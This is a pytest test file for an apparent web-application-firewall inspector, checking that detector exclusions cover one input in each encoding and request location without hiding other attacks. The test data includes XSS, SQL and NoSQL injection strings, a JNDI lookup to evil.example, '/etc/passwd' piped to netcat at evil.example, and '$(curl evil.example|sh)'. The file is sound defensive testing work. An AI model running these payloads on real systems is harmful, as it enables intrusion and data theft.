"""What an exclusion allows is allowed in each of its spellings and on each way, and hides no other attack."""

from __future__ import annotations

import base64
import json
import re
from typing import Any
from urllib.parse import quote

import pytest
from test_triggers import ATTACKS, event_of, put, row_name
from trigger_rows import ROWS as TRIGGERS

from hauberk._native import Inspector
from hauberk.inspect.slot import SLOTS, event_with

SCRIPT = "<script>alert(1)</script>"
ENTITIES = "".join(f"&#{ord(one)};" for one in SCRIPT)
POLICY = {
    "hauberk": 1,
    "function": "f",
    "mode": "prevent",
    "exclusions": [
        {
            "name": "editor",
            "detector": "cross-site-scripting",
            "path": "body→$.html",
            "patterns": ["**"],
        }
    ],
}
ROWS: list[tuple[dict[str, Any], list[str]]] = [
    # the body                                      paths that are told
    ({"html": SCRIPT}, []),
    ({"html": ENTITIES}, []),
    ({"html": f"  {SCRIPT} "}, []),
    ({"html": SCRIPT, "title": "blue shoes"}, []),
    ({"html": SCRIPT, "title": SCRIPT}, ["body→$.title"]),
    ({"title": SCRIPT, "html": SCRIPT}, ["body→$.title"]),
    ({"html": SCRIPT, "title": ENTITIES}, ["body→$.title"]),
    ({"html": json.dumps({"inner": SCRIPT})}, ["body→$.html→$.inner"]),
    ({"html": "${jndi:ldap://evil.example/a}"}, ["body→$.html"]),
]


@pytest.mark.parametrize(("body", "paths"), ROWS)
def test_an_exclusion_is_for_one_input_and_each_spelling_of_it(body, paths):
    event = {"body": json.dumps(body)}
    _, detections, _ = Inspector(json.dumps(POLICY).encode()).inspect(json.dumps(event).encode())
    assert [one["path"] for one in detections] == paths


MORE = {
    **{detector: attack for detector, (attack, _) in ATTACKS.items()},
    "path-traversal": "../../../../etc/passwd",
    "shell-injection": "x; cat /etc/passwd | nc evil.example 4444",
}
HTTP = {
    "version": "2.0",
    "rawPath": "/items/7",
    "headers": {"host": "api.example.com"},
    "requestContext": {"stage": "$default", "http": {"method": "GET", "path": "/items/7"}},
}


def said(event: Any, *excluded: tuple[str, str]) -> tuple[str, list[tuple[str, str]]]:
    """The verdict, and which detector spoke where, with these exclusions: detectors and paths."""
    exclusions = [
        {"name": f"e{at}", "detector": detector, "path": path, "patterns": ["**"]}
        for at, (detector, path) in enumerate(excluded)
    ]
    policy = json.dumps({**POLICY, "exclusions": exclusions}).encode()
    content = event if isinstance(event, bytes) else json.dumps(event).encode()
    verdict, detections, _ = Inspector(policy).inspect(content)
    return verdict, [(one["detector"], one["path"]) for one in detections]


def as_patterns(told: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(detector, re.sub(r"([*?\\])", r"\\\1", path)) for detector, path in told]


@pytest.mark.parametrize("attack", MORE.values(), ids=MORE)
@pytest.mark.parametrize("slot", SLOTS)
def test_what_is_told_of_a_payload_is_all_that_has_to_be_excluded(slot, attack):
    event = event_with(attack, slot)
    verdict, told = said(event)
    assert verdict != "allow"
    # One place for each detector; a value with slashes of its own may be told as segments of the path, too.
    assert len(told) <= len(dict(told)) + (slot == "apigw_path_param")
    assert said(event, *as_patterns(told)) == ("allow", [])
    sibling = {**json.loads(event), "sibling": attack}
    assert said(sibling, *as_patterns(told))[0] == verdict


@pytest.mark.parametrize("row", TRIGGERS, ids=row_name)
@pytest.mark.parametrize("attack", MORE.values(), ids=MORE)
def test_what_is_told_of_a_trigger_is_all_that_has_to_be_excluded(row, attack):
    name, place, hides, _ = row
    hidden = attack
    for hide in hides:
        hidden = hide(hidden)
    event = put(event_of(name), place, hidden)
    verdict, told = said(event)
    assert verdict != "allow"
    assert said(event, *as_patterns(told)) == ("allow", [])
    if isinstance(event, dict):
        beside = {**event, "sibling": attack}
        assert "sibling" in {path for _, path in said(beside, *as_patterns(told))[1]}


def http(**parts: Any) -> dict[str, Any]:
    return {**HTTP, **parts}


def multipart(**fields: str) -> str:
    part = '--b\r\nContent-Disposition: form-data; name="{}"\r\n\r\n{}\r\n'
    return "".join(part.format(*field) for field in fields.items()) + "--b--\r\n"


ESCAPED = quote(SCRIPT, safe="")
WAYS = [
    # what is excluded                   where it is allowed, and where it is told beside it
    (
        "queryStringParameters.q",
        http(rawQueryString=f"a=1&q={ESCAPED}", queryStringParameters={"a": "1", "q": SCRIPT}),
        http(rawQueryString=f"a={ESCAPED}&q=1", queryStringParameters={"a": SCRIPT, "q": "1"}),
        "queryStringParameters.a",
    ),
    (
        "rawQueryString→form.q",
        {
            "queryStringParameters": {"q": SCRIPT},
            "multiValueQueryStringParameters": {"q": [SCRIPT]},
        },
        {
            "queryStringParameters": {"s": SCRIPT},
            "multiValueQueryStringParameters": {"s": [SCRIPT]},
        },
        "queryStringParameters.s",
    ),
    (
        "multiValueQueryStringParameters.q[*]",
        http(rawQueryString=f"q={quote(ESCAPED)}&q={ESCAPED}"),
        http(rawQueryString=f"q={quote(ESCAPED)}&s={ESCAPED}"),
        "rawQueryString→form.s",
    ),
    (
        "headers.X-Note",
        {"headers": {"x-note": SCRIPT}, "multiValueHeaders": {"X-NOTE": ["a", SCRIPT]}},
        {"headers": {"x-note": SCRIPT, "x-notes": SCRIPT}},
        "headers.x-notes",
    ),
    (
        "pathParameters.id",
        http(
            rawPath=f"/items/{ESCAPED}/x",
            pathParameters={"id": SCRIPT},
            requestContext={"stage": "dev", "http": {"path": f"/dev/items/{ESCAPED}/x"}},
        ),
        http(
            rawPath=f"/{quote('<script>alert(2)</script>', safe='')}/{ESCAPED}",
            pathParameters={"id": SCRIPT},
        ),
        "rawPath→segment[1]",
    ),
    (
        "headers.cookie→form.note",
        {"cookies": ["a=1", f"note={ESCAPED}"]},
        {"cookies": [f"a={ESCAPED}", f"note={ESCAPED}"]},
        "cookies[0]→form.a",
    ),
    (
        "body→form.note",
        {"body": base64.b64encode(f"a=1&note={quote(ESCAPED)}".encode()).decode()},
        {"body": f"a={quote(ESCAPED)}&note={ESCAPED}"},
        "body→form.a",
    ),
    (
        "body→multipart.note",
        {"body": multipart(a="1", note=SCRIPT)},
        {"body": multipart(a=SCRIPT, note=SCRIPT)},
        "body→multipart.a",
    ),
    (
        "headers.referer→form.q",
        {"headers": {"referer": f"https://shop.example/s?q={ESCAPED}&a=1"}},
        {"headers": {"referer": f"https://shop.example/s?q={ESCAPED}&a={ESCAPED}"}},
        "headers.referer→form.a",
    ),
    (
        "queryStringParameters.q",
        http(rawQueryString=f"q=a%26b%3D{ESCAPED}"),
        http(rawQueryString=f"q=a&b={ESCAPED}"),
        "rawQueryString→form.b",
    ),
    (
        "Records[*].s3.object.key",
        {"Records": [{"s3": {"object": {"key": f"a/{ESCAPED}"}}}]},
        {"Records": [{"s3": {"object": {"key": "a", "eTag": SCRIPT}}}]},
        "Records[0].s3.object.eTag",
    ),
]


@pytest.mark.parametrize(("path", "event", "beside", "told"), WAYS)
def test_an_exclusion_is_for_a_value_on_each_way_and_for_nothing_beside_it(
    path, event, beside, told
):
    assert said(event)[0] == "block"
    assert said(event, ("cross-site-scripting", path)) == ("allow", [])
    verdict, left = said(beside, ("cross-site-scripting", path))
    assert (verdict, [where for _, where in left]) == ("block", [told])


def test_all_places_of_an_attack_are_told_and_none_that_only_holds_another():
    quoted = "x' OR 1=1--"
    assert said({"a": quoted, "b": quoted})[1] == [("sql-injection", "a"), ("sql-injection", "b")]
    event = {"body": f"a={ESCAPED}&b=1&c={ESCAPED}"}
    assert [path for _, path in said(event)[1]] == ["body→form.a", "body→form.c"]


def test_what_is_read_in_the_text_around_alone_is_told_beside_what_is_excluded():
    run = "$(curl evil.example|sh)"
    page = f"<p>q={quote(run, safe='')}</p>"
    excluded = ("shell-injection", "body→xml→form.q")
    assert said({"body": page}, excluded) == ("allow", [])
    assert said({"body": page.replace("</p>", f"&{run}</p>")}, excluded)[0] == "block"
    assert said({"body": f"  {page.replace('</p>', f'&{run}</p>')} "}, excluded)[0] == "block"


def test_a_key_beside_what_is_excluded_is_told():
    event = {"body": "note=abc&user[$ne]=1"}
    for excluded in ("body→form.note", "body→form.note*"):
        assert said(event, ("nosql-injection", excluded)) == said(event)
        assert said(event)[0] != "allow"


EXACT = [
    # what is excluded                    what is told all the same
    ("x' or 'a'='a", "x' or 'a'='b"),
    ("x' or 1=1 --", "y' or 1=1 --"),
    ("x' union select a;b=1 --", "x' union select a;c=1 --"),
    ("1 or 1=1;a=2", "1 or 1=1;a=3"),
]


@pytest.mark.parametrize(("excluded", "other"), EXACT)
def test_a_text_that_is_excluded_passes_with_all_its_pieces_and_no_other_does(excluded, other):
    exclusion = {"name": "e", "detector": "*", "path": "q", "patterns": [excluded]}
    inspector = Inspector(json.dumps({**POLICY, "exclusions": [exclusion]}).encode())

    def paths(event):
        return {one["path"] for one in inspector.inspect(json.dumps(event).encode())[1]}

    assert paths({"q": excluded}) == set()
    assert paths({"s": excluded}) == {"s"}
    assert paths({"q": excluded, "s": excluded}) == {"s"}
    assert paths({"q": other}) == {"q"}


def test_a_key_that_looks_like_a_step_of_a_path_is_none():
    event = {"queryStringParameters": {"q→url": SCRIPT}}
    assert said(event, ("cross-site-scripting", "queryStringParameters.q"))[0] == "block"


def test_each_cookie_is_read_by_itself():
    header = {"headers": {"cookie": "b=1; session=2; a=1 OR 1=1"}}
    as_list = {"cookies": ["b=1", "session=2", "a=1 OR 1=1"]}
    rows = [
        (header, "headers.cookie→form.a"),
        (as_list, "cookies[2]→form.a"),
        (
            {"multiValueHeaders": {"Cookie": ["b=1; a=1 OR 1=1"]}},
            "multiValueHeaders.Cookie[0]→form.a",
        ),
        ({"headers": {"cookie": "session=deadbeef; a=1'or'1'='1"}}, "headers.cookie→form.a"),
    ]
    said_of = [Inspector().inspect(json.dumps(event).encode())[1] for event, _ in rows]
    assert [[one["path"] for one in told] for told in said_of] == [[path] for _, path in rows]
    confidences = {told[0]["confidence"] for told in said_of[:3]}
    assert len(confidences) == 1
    assert said({"headers": {"cookie": "theme=dark; lang=en-US; session=a.b-c_d"}}) == ("allow", [])
